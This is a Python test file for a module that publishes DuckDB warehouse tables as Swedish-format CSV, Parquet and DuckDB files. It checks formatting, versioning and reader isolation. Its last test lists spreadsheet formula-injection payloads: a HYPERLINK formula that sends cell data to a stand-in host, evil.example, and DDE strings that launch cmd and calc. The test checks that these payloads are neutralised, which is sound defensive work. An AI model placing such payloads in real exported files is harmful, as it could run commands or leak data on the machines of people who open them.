"""publish(): the CSV for Excel in Swedish settings, byte for byte, written in the same
version of the marts folder as the Parquet files and indikatorer.duckdb (no dbt: a hand-made
warehouse)."""

from __future__ import annotations

import duckdb

from hansyn.config import load_settings
from hansyn.publishing import versions
from hansyn.publishing.swap import CSV_BOM, PUBLISHED_STORAGE_VERSION, csv_select, publish


def _warehouse(path, rows_sql: str) -> None:
    con = duckdb.connect(str(path))
    con.execute("create schema marts")
    con.execute(
        "create table marts.sample (id varchar, title varchar, n bigint, share double, "
        "amount decimal(12, 2), on_list boolean, starts date, loaded_at timestamp)"
    )
    con.execute(f"insert into marts.sample values {rows_sql}")
    con.close()


def test_csv_is_utf8_with_bom_semicolons_and_decimal_commas(hansyn_env):
    settings = load_settings()
    _warehouse(
        settings.warehouse,
        "('A-1', 'Städ; och \"fönster\"', 12, 0.5, 1234.50, true, '2024-01-15', "
        "'2025-03-01 02:01:30.123456'), "
        "('A-2', 'Gröna ytor', 0, null, null, false, null, null)",
    )
    report = publish(settings, ["sample"])
    assert report.tables == {"sample": 2}
    raw = (settings.marts_dir / "sample.csv").read_bytes()
    assert raw.startswith(CSV_BOM)
    assert raw[len(CSV_BOM) :].decode("utf-8").splitlines() == [
        "id;title;n;share;amount;on_list;starts;loaded_at",
        # a text with ; and quotes is quoted, quotes doubled; 0.5 → 0,5; decimal 1234.50 → 1234,50;
        # the timestamp to the second
        'A-1;"Städ; och ""fönster""";12;0,5;1234,50;true;2024-01-15;2025-03-01 02:01:30',
        # 0 stays 0; NULL is an empty field
        "A-2;Gröna ytor;0;;;false;;",
    ]


def test_one_publish_writes_every_format_and_leaves_nothing_behind(hansyn_env):
    settings = load_settings()
    _warehouse(settings.warehouse, "('A-1', 't', 5, 0.25, 1.00, true, '2024-01-01', null)")
    publish(settings, ["sample"])
    old_csv = (settings.marts_dir / "sample.csv").read_bytes()
    con = duckdb.connect(str(settings.warehouse))
    con.execute("update marts.sample set n = 7")
    con.close()
    publish(settings, ["sample"])
    marts = settings.marts_dir
    assert sorted(p.name for p in marts.iterdir()) == [
        ".publication.json",  # the manifest of what was published
        "indikatorer.duckdb",
        "sample.csv",
        "sample.parquet",
    ]
    assert versions.leftovers(marts) == []  # no half-written version left
    assert (marts / "sample.csv").read_bytes() == old_csv.replace(b";5;", b";7;")
    assert duckdb.sql(f"select n from '{marts / 'sample.parquet'}'").fetchall() == [(7,)]
    con = duckdb.connect(str(marts / "indikatorer.duckdb"), read_only=True)
    assert con.execute("select n from sample").fetchone() == (7,)
    # Written in the storage version DuckDB 1.x reads.
    version = con.execute(
        "select tags['storage_version'] from duckdb_databases() where database_name = 'indikatorer'"
    ).fetchone()[0]
    con.close()
    # DuckDB names the oldest version that reads the file ("v1.4.0+"); the warehouse that
    # DuckDB 2.0 writes natively says "v2.0.0+", which DuckDB 1.x cannot open.
    assert version == PUBLISHED_STORAGE_VERSION + "+"


def test_csv_select_formats_by_type():
    select = csv_select(
        [("a", "DOUBLE"), ("b", "DECIMAL(10,2)"), ("t", "TIMESTAMP"), ("n", "BIGINT")]
    )
    rows = duckdb.sql(
        f"select {select} from (select 1234.5::double as a, 2.25::decimal(10,2) as b, "
        "timestamp '2025-03-01 02:01:30.123456' as t, 7::bigint as n)"
    ).fetchall()
    assert rows == [("1234,5", "2,25", "2025-03-01 02:01:30", 7)]


def test_an_open_reader_keeps_its_view_and_does_not_block_the_next_publish(hansyn_env):
    settings = load_settings()
    _warehouse(settings.warehouse, "('A-1', 't', 1, null, null, true, null, null)")
    publish(settings, ["sample"])
    # An analyst's connection to the published file, open across the next publish.
    reader = duckdb.connect(str(settings.marts_dir / "indikatorer.duckdb"), read_only=True)
    try:
        assert reader.execute("select count(*) from sample").fetchone() == (1,)
        con = duckdb.connect(str(settings.warehouse))
        con.execute(
            "insert into marts.sample values ('A-2', 'u', 2, null, null, false, null, null)"
        )
        con.close()
        assert publish(settings, ["sample"]).tables == {"sample": 2}
        # The open connection keeps its consistent old view …
        assert reader.execute("select count(*) from sample").fetchone() == (1,)
    finally:
        reader.close()
    # … and a new connection sees the new rows.
    con = duckdb.connect(str(settings.marts_dir / "indikatorer.duckdb"), read_only=True)
    assert con.execute("select count(*) from sample").fetchone() == (2,)
    con.close()


def test_csv_cells_that_would_run_as_formulas_are_neutralised_in_the_csv_only(hansyn_env):
    settings = load_settings()
    titles = [
        '=HYPERLINK("http://evil.example/?q="&A1;"Klicka")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-5",  # numbers stay numbers
        "+46",
        "-1,5",
        "Städ = fönster",  # not at the start: harmless
    ]
    values = ", ".join(
        f"('A-{i}', '{t.replace(chr(39), chr(39) * 2)}', {i}, null, null, true, null, null)"
        for i, t in enumerate(titles)
    )
    _warehouse(settings.warehouse, values)
    publish(settings, ["sample"])
    con = duckdb.connect()
    csv_titles = [
        r[0]
        for r in con.execute(
            f"select title from read_csv('{settings.marts_dir / 'sample.csv'}', delim=';', "
            "header=true, all_varchar=true) order by n"
        ).fetchall()
    ]
    assert csv_titles == ["'" + t for t in titles[:6]] + titles[6:]
    parquet = f"{settings.marts_dir / 'sample.parquet'}"
    assert [r[0] for r in con.execute(f"select title from '{parquet}' order by n").fetchall()] == (
        titles
    )
